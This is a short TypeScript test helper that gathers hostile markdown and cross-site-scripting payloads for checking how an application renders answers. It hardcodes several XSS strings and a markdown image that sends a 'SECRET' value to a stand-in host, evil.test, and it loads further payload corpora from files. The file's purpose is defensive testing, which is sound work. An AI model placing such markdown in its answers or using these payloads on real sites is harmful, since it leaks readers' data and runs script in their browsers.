import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

const own = ['<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', '![x](https://evil.test/?q=SECRET)', '<script>alert(1)</script>']

/** Characters of an answer: the server ends a longer one. */
const longest = 20_000

/** What an answer might carry to harm its reader: a few of our own, and the attack corpora where they are. */
export async function hostileMarkdown(): Promise<string[]> {
  const attack = process.env.COACHKIT_ATTACK ?? fileURLToPath(new URL('../../../../shared/attack', import.meta.url))
  const lines = await Promise.all(['markdown_output.jsonl', 'xss_payloads.jsonl'].map((name) => readFile(join(attack, name), 'utf8').catch(() => '')))
  const rows = lines.flatMap((text) => text.split('\n').filter(Boolean))
  return [...own, ...rows.map((row) => (JSON.parse(row) as { payload: string }).payload.slice(0, longest))]
}
